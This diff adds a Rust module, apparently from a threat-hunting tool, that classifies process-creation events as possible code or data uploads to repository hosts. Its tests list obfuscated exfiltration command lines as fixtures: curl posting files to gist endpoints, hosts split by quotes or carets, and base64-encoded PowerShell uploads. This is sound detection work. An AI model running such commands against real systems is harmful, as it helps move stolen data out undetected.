@@ -1,0 +1,410 @@
+//! What one process creation tells a hunt.
+
+use std::borrow::Cow;
+use std::ops::Range;
+
+use super::cli::{CliAct, cli_act};
+use super::encoded::decoded;
+use super::git::{Address, GitAct, GitLine, address, git_line, helper_url};
+use super::hosts::RepositoryHosts;
+use super::program::Program;
+use super::senders::{curl_sends, powershell_call, python_sends, search_word, wget_sends};
+use super::ssh::ssh_line;
+use super::words::{LINE_LIMIT, head};
+use crate::detect::selection::{API_HOSTS, PUSH_HOSTS, find_ignoring_case};
+
+/// What an event is for a lead. Of an act's clues the first in this order is the one that the lead's row shows.
+#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, PartialOrd, Ord)]
+#[repr(u8)]
+pub enum ClueKind {
+    /// A repository's host, hidden by quotes, carets or by being put together, and a word of sending.
+    HiddenUpload,
+    /// The same without a word of sending.
+    HiddenHost,
+    /// A script in base64 that sends to a repository's API.
+    EncodedUpload,
+    /// curl or wget that sends to a repository's API.
+    ToolUpload,
+    /// PowerShell or Python that sends to a repository's API.
+    ScriptUpload,
+    /// gh.exe that uploads.
+    CliUpload,
+    /// A push whose command line names a repository that the search does not know.
+    PushToOtherHost,
+    /// `git push`.
+    Push,
+    /// `git send-pack`.
+    SendPack,
+    /// ssh.exe with `git-receive-pack`.
+    ReceivePack,
+    /// A child whose ParentCommandLine is a `git push`.
+    PushAsParent,
+    /// Another gh.exe.
+    Cli,
+    /// A script that calls a repository's API, and as far as can be seen only reads.
+    ScriptRequest,
+    /// A fetch, a pull, a clone.
+    Fetch,
+    /// The helper with its URL.
+    Helper,
+    /// A child whose ParentCommandLine is a fetch.
+    FetchAsParent,
+    /// Event 3 of git's helper or of ssh.exe under git.
+    HelperConnection,
+    /// Event 3 of gh.exe or GitHub Desktop.
+    ClientConnection,
+    /// Event 3 of a program of the list to a repository that the list lacks.
+    OtherHostConnection,
+    /// Event 3 to a reverse name of a repository's address.
+    ReverseNameConnection,
+    /// Event 3 to an address that another process had just resolved.
+    ResolvedElsewhere,
+    /// Event 22 for a repository's name.
+    Query,
+    /// `git remote add` in the same folder.
+    RemoteAdded,
+    /// Event 1 that the search itself selects.
+    SearchedStart,
+    /// Event 3 that the search itself selects.
+    SearchedConnection,
+}
+
+impl ClueKind {
+    /// Its bit in a set of kinds.
+    #[must_use]
+    pub const fn bit(self) -> u32 {
+        1 << self as u32
+    }
+}
+
+/// A clue in an Event 1.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct Clue {
+    /// What it is.
+    pub kind: ClueKind,
+    /// Where in the command line it stands, in bytes; empty where it is the whole.
+    pub matched: Vec<Range<usize>>,
+    /// Whom it speaks to, where it says so.
+    pub address: Option<Address>,
+}
+
+impl Clue {
+    fn new(kind: ClueKind, matched: Vec<Range<usize>>, address: Option<Address>) -> Self {
+        Self { kind, matched, address }
+    }
+}
+
+/// The clues of a process creation. `selected` says whether the search selects it anyway: then it is no clue of an
+/// upload or a push by itself, but git's part in an act is still told.
+#[must_use]
+pub fn clues(
+    program: Program,
+    command_line: &str,
+    parent: Option<(Program, &str)>,
+    selected: bool,
+    hosts: &RepositoryHosts,
+) -> Vec<Clue> {
+    let line = head(command_line, LINE_LIMIT);
+    let mut clues = Vec::new();
+    match program {
+        Program::Git => clues.extend(git_clue(line, hosts)),
+        Program::GitHelper => {
+            let address = helper_url(line).and_then(|word| address(&word.text));
+            clues.push(Clue::new(ClueKind::Helper, Vec::new(), address));
+        }
+        Program::Ssh => clues.extend(ssh_line(line).map(|ssh| {
+            let kind = if ssh.is_push { ClueKind::ReceivePack } else { ClueKind::Fetch };
+            Clue::new(kind, vec![ssh.matched], ssh.address)
+        })),
+        Program::GitHubCli => clues.push(match cli_act(line) {
+            CliAct::Uploads(matched) => Clue::new(ClueKind::CliUpload, vec![matched], None),
+            CliAct::Reads => Clue::new(ClueKind::Cli, Vec::new(), None),
+        }),
+        _ if selected => {}
+        Program::Curl => clues.extend(tool_clue(line, curl_sends(line), hosts)),
+        Program::Wget => clues.extend(tool_clue(line, wget_sends(line), hosts)),
+        Program::PowerShell => clues.extend(powershell_clue(line, hosts)),
+        Program::Python => clues.extend(python_clue(line, hosts)),
+        Program::Shell => clues.extend(hidden_clue(line)),
+        Program::GitHubDesktop | Program::Runtime => {}
+    }
+    if let Some((Program::Git, parent_line)) = parent
+        && (program.is_git() || program == Program::Ssh)
+    {
+        let parent = git_line(head(parent_line, LINE_LIMIT));
+        let kind = match parent.act {
+            GitAct::Push => Some(ClueKind::PushAsParent),
+            GitAct::Fetch => Some(ClueKind::FetchAsParent),
+            _ => None,
+        };
+        let address = parent.url.and_then(|url| address(&url.text));
+        clues.extend(kind.map(|kind| Clue::new(kind, Vec::new(), address)));
+    }
+    clues
+}
+
+fn git_clue(line: &str, hosts: &RepositoryHosts) -> Option<Clue> {
+    let GitLine { act, verb, url } = git_line(line);
+    let address = url.as_ref().and_then(|url| address(&url.text));
+    let kind = match act {
+        GitAct::Push => match &address {
+            Some(address)
+                if hosts.knows(&address.host) && find_ignoring_case(line, &address.host).is_none() =>
+            {
+                ClueKind::HiddenUpload
+            }
+            Some(address) if hosts.knows(&address.host) => ClueKind::PushToOtherHost,
+            _ => ClueKind::Push,
+        },
+        GitAct::SendPack => ClueKind::SendPack,
+        GitAct::Fetch => ClueKind::Fetch,
+        GitAct::Helper => ClueKind::Helper,
+        GitAct::RemoteAdded => ClueKind::RemoteAdded,
+        GitAct::Other => return None,
+    };
+    let matched = verb.into_iter().chain(url).map(|word| word.range).collect();
+    Some(Clue::new(kind, matched, address))
+}
+
+fn tool_clue(line: &str, sends: Option<Range<usize>>, hosts: &RepositoryHosts) -> Option<Clue> {
+    match (sends, hosts.api_in(line)) {
+        (Some(sends), Some(api)) => {
+            let address = address_at(line, &api.range);
+            let kind = if only_queries(line) { ClueKind::ScriptRequest } else { ClueKind::ToolUpload };
+            Some(Clue::new(kind, vec![sends, api.range], address))
+        }
+        (sends, None) => {
+            let mut clue = hidden_clue(line)?;
+            if sends.is_some() {
+                clue.kind = ClueKind::HiddenUpload;
+            }
+            Some(clue)
+        }
+        (None, Some(_)) => None,
+    }
+}
+
+fn powershell_clue(line: &str, hosts: &RepositoryHosts) -> Option<Clue> {
+    if let Some(found) = decoded(line) {
+        let mut clue = encoded_upload(&found.script, hosts)?;
+        clue.matched = vec![found.range];
+        return Some(clue);
+    }
+    script_clue(line, hosts).or_else(|| hidden_clue(line))
+}
+
+/// Whether a script in base64 meets the search's `api` clause, or sends to an API that the clause does not know.
+fn encoded_upload(script: &str, hosts: &RepositoryHosts) -> Option<Clue> {
+    let clue = |address| Clue::new(ClueKind::EncodedUpload, Vec::new(), address);
+    let listed = API_HOSTS.iter().find_map(|host| find_ignoring_case(script, host));
+    if let Some(range) = listed.filter(|_| search_word(script).is_some()) {
+        return Some(clue(address_at(script, &range)));
+    }
+    let found = script_clue(script, hosts).or_else(|| hidden_clue(script))?;
+    matches!(found.kind, ClueKind::ScriptUpload | ClueKind::HiddenUpload).then(|| clue(found.address))
+}
+
+fn script_clue(text: &str, hosts: &RepositoryHosts) -> Option<Clue> {
+    let api = hosts.api_in(text)?;
+    let call = powershell_call(text)?;
+    let address = address_at(text, &api.range);
+    Some(match call.sends {
+        Some(sends) if !only_queries(text) => {
+            Clue::new(ClueKind::ScriptUpload, vec![call.call, sends, api.range], address)
+        }
+        _ => Clue::new(ClueKind::ScriptRequest, vec![call.call, api.range], address),
+    })
+}
+
+/// Whether a text sends GraphQL that it shows, and that is a query: all of GraphQL is sent, but only a mutation changes
+/// something.
+fn only_queries(text: &str) -> bool {
+    let says = |word| find_ignoring_case(text, word).is_some();
+    says("/graphql") && says("query") && !says("mutation")
+}
+
+fn python_clue(line: &str, hosts: &RepositoryHosts) -> Option<Clue> {
+    match (python_sends(line), hosts.api_in(line)) {
+        (Some(sends), Some(api)) => {
+            let address = address_at(line, &api.range);
+            Some(Clue::new(ClueKind::ScriptUpload, vec![sends, api.range], address))
+        }
+        (_, None) => hidden_clue(line),
+        (None, Some(_)) => None,
+    }
+}
+
+/// A repository's host that only shows once quotes, carets, backticks and concatenations are taken away: an API's, or
+/// that of a push.
+fn hidden_clue(line: &str) -> Option<Clue> {
+    let plain = without_quoting(line)?;
+    let pushes = find_ignoring_case(&plain, "push").is_some();
+    let hosts = API_HOSTS.iter().chain(PUSH_HOSTS.iter().filter(|_| pushes));
+    let range = hosts
+        .filter(|host| find_ignoring_case(line, host).is_none())
+        .find_map(|host| find_ignoring_case(&plain, host))?;
+    let sends = pushes || search_word(&plain).is_some();
+    let kind = if sends { ClueKind::HiddenUpload } else { ClueKind::HiddenHost };
+    Some(Clue::new(kind, Vec::new(), address_at(&plain, &range)))
+}
+
+/// The text without what shells take away; `None` where nothing is to be taken away.
+fn without_quoting(line: &str) -> Option<String> {
+    if !line.contains(['^', '`', '"', '\'']) {
+        return None;
+    }
+    let mut plain = String::with_capacity(line.len());
+    let mut rest = line;
+    while let Some(at) = rest.find(['^', '`', '"', '\'']) {
+        plain.push_str(rest.get(..at).unwrap_or(""));
+        let quote = rest.as_bytes().get(at).copied().unwrap_or(b' ');
+        rest = rest.get(at + 1..).unwrap_or("");
+        // `'api.git' + 'hub.com'`: the same quote again, after a plus.
+        if matches!(quote, b'"' | b'\'')
+            && let Some(after) = rest.trim_start().strip_prefix('+')
+            && let Some(joined) = after.trim_start().strip_prefix(char::from(quote))
+        {
+            rest = joined;
+        }
+    }
+    plain.push_str(rest);
+    Some(plain)
+}
+
+/// Whom a host at a place of a text is spoken to as.
+fn address_at(text: &str, host: &Range<usize>) -> Option<Address> {
+    let rest = text.get(host.start..)?;
+    let end = rest.find(|c: char| c.is_whitespace() || "\"'`<>|;,)".contains(c)).unwrap_or(rest.len());
+    let url: Cow<'_, str> = Cow::Owned(format!("https://{}", rest.get(..end)?));
+    address(&url).map(|mut found| {
+        if let Some(path) = found.repository.strip_prefix("api.github.com/repos/") {
+            // The owner stands after `repos`; the address read no more than two parts.
+            let owner = path.to_owned();
+            let name = rest
+                .get(..end)
+                .and_then(|url| url.split('/').nth(3))
+                .filter(|name| !name.is_empty())
+                .map_or_else(String::new, |name| format!("/{name}"));
+            found.repository = format!("github.com/{owner}{name}");
+        }
+        found
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use base64::Engine as _;
+
+    fn kinds(program: Program, line: &str) -> Vec<ClueKind> {
+        let hosts = RepositoryHosts::new(&["git.corp.example".to_owned()]);
+        clues(program, line, None, false, &hosts).into_iter().map(|clue| clue.kind).collect()
+    }
+
+    fn encoded(script: &str) -> String {
+        let bytes: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
+        base64::engine::general_purpose::STANDARD.encode(bytes)
+    }
+
+    #[test]
+    fn one_command_line_gives_what_it_says_and_no_more() {
+        use ClueKind as K;
+        use Program as P;
+        let table: &[(Program, &str, &[ClueKind])] = &[
+            (P::Git, "git push origin main", &[K::Push]),
+            (P::Git, "git push https://codeberg.org/o/r", &[K::PushToOtherHost]),
+            (P::Git, "git push git@git.corp.example:o/r.git", &[K::PushToOtherHost]),
+            (P::Git, "git push https://backup.example/o/r", &[K::Push]),
+            (P::Git, "git push \"https://git\"\"hub.com/o/r\"", &[K::HiddenUpload]),
+            (P::Git, "git stash push", &[]),
+            (P::Git, "git fetch origin", &[K::Fetch]),
+            (P::Ssh, "ssh git@github.com \"git-receive-pack 'o/r'\"", &[K::ReceivePack]),
+            (P::Ssh, "ssh git@github.com \"git-upload-pack 'o/r'\"", &[K::Fetch]),
+            (P::Ssh, "ssh admin@server", &[]),
+            (
+                P::Curl,
+                "curl -T x.zip https://uploads.github.com/repos/o/r/releases/1/assets",
+                &[K::ToolUpload],
+            ),
+            (P::Curl, "curl -X PATCH https://api.github.com/graphql", &[K::ToolUpload]),
+            (P::Curl, "curl -d @x https://git.corp.example/api/v3/gists", &[K::ToolUpload]),
+            (P::Curl, "curl -o x https://api.github.com/repos/o/r/zipball", &[]),
+            (P::Curl, "curl -d @x https://example.com/?u=api.github.community", &[]),
+            (P::Curl, "curl -d @x https://api.git\"\"hub.com/gists", &[K::HiddenUpload]),
+            (P::Curl, "curl -s https://api.git\"\"hub.com/user", &[K::HiddenHost]),
+            (P::Wget, "wget --post-file=x https://gitlab.com/api/v4/projects/1/uploads", &[K::ToolUpload]),
+            (
+                P::PowerShell,
+                "powershell irm https://api.github.com/repos/o/r/git/blobs -Me Patch",
+                &[K::ScriptUpload],
+            ),
+            (
+                P::PowerShell,
+                "powershell -c \"irm https://api.github.com/repos/o/r | select name\"",
+                &[K::ScriptRequest],
+            ),
+            (P::PowerShell, "powershell -c \"$u='api.git'+'hub.com/gists'; irm $u\"", &[K::HiddenUpload]),
+            (P::PowerShell, "powershell -File x.ps1", &[]),
+            (
+                P::Python,
+                "python -c \"requests.patch('https://api.github.com/gists/1', json=d)\"",
+                &[K::ScriptUpload],
+            ),
+            (P::Python, "python -m pip install git+https://github.com/o/r", &[]),
+            (P::Shell, "cmd /c curl -d @x https://api.git^hub.com/x", &[K::HiddenHost]),
+            (P::Shell, "cmd /c curl -X PUT https://api.git^hub.com/x", &[K::HiddenUpload]),
+            (P::Shell, "cmd /c \"curl https://api.github.com/x\"", &[]),
+            (P::Shell, "cmd /c git push https://git^hub.com/o/r", &[K::HiddenUpload]),
+            (P::Shell, "cmd /c git clone https://git^hub.com/o/r", &[]),
+            (
+                P::Curl,
+                "curl -d '{\"query\":\"query{viewer{login}}\"}' https://api.github.com/graphql",
+                &[K::ScriptRequest],
+            ),
+            (
+                P::Curl,
+                "curl -d '{\"query\":\"mutation{x}\"}' https://api.github.com/graphql",
+                &[K::ToolUpload],
+            ),
+            (P::Curl, "curl -d @q.json https://api.github.com/graphql", &[K::ToolUpload]),
+            (P::GitHubCli, "gh gist create x", &[K::CliUpload]),
+            (P::GitHubCli, "gh pr list", &[K::Cli]),
+            (P::Runtime, "node server.js", &[]),
+        ];
+        for (program, line, expected) in table {
+            assert_eq!(kinds(*program, line), *expected, "{line}");
+        }
+    }
+
+    #[test]
+    fn a_script_in_base64_is_read_like_one_in_plain_text() {
+        for (script, expected) in [
+            ("Invoke-RestMethod https://api.github.com/repos/o/r/contents/x -Method Put", true),
+            ("iwr https://gitlab.com/api/v4/projects -Method Patch -Body $b", true),
+            ("irm https://api.github.com/repos/o/r/commits", false),
+            ("Get-Process", false),
+        ] {
+            let line = format!("powershell.exe -NoP -enc {}", encoded(script));
+            let expected: &[ClueKind] = if expected { &[ClueKind::EncodedUpload] } else { &[] };
+            assert_eq!(kinds(Program::PowerShell, &line), expected, "{script}");
+        }
+    }
+
+    #[test]
+    fn a_parents_line_tells_where_its_own_event_is_missing() {
+        let hosts = RepositoryHosts::default();
+        let helper = "git remote-https origin https://github.com/o/r.git";
+        let found = clues(Program::Git, helper, Some((Program::Git, "git.exe push origin")), false, &hosts);
+        let kinds: Vec<_> = found.iter().map(|clue| clue.kind).collect();
+        assert_eq!(kinds, [ClueKind::Helper, ClueKind::PushAsParent]);
+        assert_eq!(found[0].address.as_ref().unwrap().repository, "github.com/o/r");
+    }
+
+    #[test]
+    fn an_api_address_names_the_repository() {
+        let line = "curl -T x https://api.github.com/repos/owner/name/git/blobs";
+        let hosts = RepositoryHosts::default();
+        let found = clues(Program::Curl, line, None, false, &hosts);
+        assert_eq!(found[0].address.as_ref().unwrap().repository, "github.com/owner/name");
+    }
+}
